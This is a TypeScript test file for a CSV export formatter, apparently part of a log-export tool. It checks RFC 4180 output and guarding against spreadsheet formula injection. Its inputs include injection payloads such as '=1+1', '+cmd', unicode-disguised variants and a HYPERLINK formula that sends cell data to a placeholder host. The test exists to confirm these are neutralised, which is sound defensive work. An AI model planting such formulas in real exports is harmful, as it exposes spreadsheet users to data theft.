import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { columns } from '../../src/format/columns.ts';
import { csv } from '../../src/format/csv.ts';
import { BARE, FULL, anyEvent, collect } from './events.ts';

/** RFC 4180 to the letter: whatever else a cell or a line end looks like is an error. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
  while (cell.lastIndex < text.length) {
    const at = cell.lastIndex;
    const match = cell.exec(text);
    if (match === null) throw new Error(`not RFC 4180 at ${at}: ${JSON.stringify(text.slice(at, at + 40))}`);
    row.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '');
    if (match[3] === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

const GUARDED = /^'+(?:[\s\p{Cf}]*[=+\-@＝＋－＠]|[\t\r\n]|[\s\p{Cf}]*[\t\r\n])/u;
const unguard = (cell: string): string => (GUARDED.test(cell) ? cell.slice(1) : cell);

async function messageCell(message: string): Promise<string | undefined> {
  const [, line] = await collect(csv([{ ...FULL, message }], { fields: ['message'] }));
  return parseCsv(line ?? '')[0]?.[0];
}

describe('csv', () => {
  it('gives every cell of any event back', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(anyEvent, { maxLength: 4 }), fc.boolean(), async (events, raw) => {
        const table = columns(events, { raw });
        const [header, ...rows] = parseCsv((await collect(csv(events, { raw }))).join(''));
        expect(header).toEqual(table.columns);
        expect(rows.map((row) => row.map(unguard))).toEqual(
          table.rows.map((row) => row.map((cell) => (cell === null ? '' : String(cell)))),
        );
      }),
    );
  });

  it('yields a header and then one line per event', async () => {
    expect(await collect(csv([FULL, BARE], { fields: ['time', 'actor', 'ip'] }))).toEqual([
      'time,actor,ip\r\n',
      '2026-01-31T08:05:14.638Z,dana@example.com,203.0.113.7\r\n',
      '2026-01-31T08:05:14.638Z,,\r\n',
    ]);
  });

  it.each([
    '=1+1',
    '+cmd',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\rx',
    '\nx',
    '  =1',
    '\u{A0}=1',
    '\u{FEFF}=1',
    '\u{200B}=1',
    '＝1',
    '＋1',
    '－1',
    '＠x',
    "'=1",
    '=HYPERLINK("https://x.test/?"&A1,"a,b")',
    '-1e9999x',
  ])('makes %j text', async (message) => {
    expect(await messageCell(message)).toBe(`'${message}`);
  });

  it.each(['-5', '+49123', '-5.25', '-1e9', 'a=1', "it's", 'plain', '1-2', '😀', "'quoted'"])(
    'leaves %j alone',
    async (message) => {
      expect(await messageCell(message)).toBe(message);
    },
  );

  it('begins with a byte order mark when asked', async () => {
    const [header] = await collect(csv([], { fields: ['uid'], bom: true }));
    expect(header).toBe('\u{FEFF}uid\r\n');
  });

  it('refuses an unknown field', async () => {
    await expect(collect(csv([], { fields: ['nope'] }))).rejects.toMatchObject({ code: 'invalid_query' });
  });
});
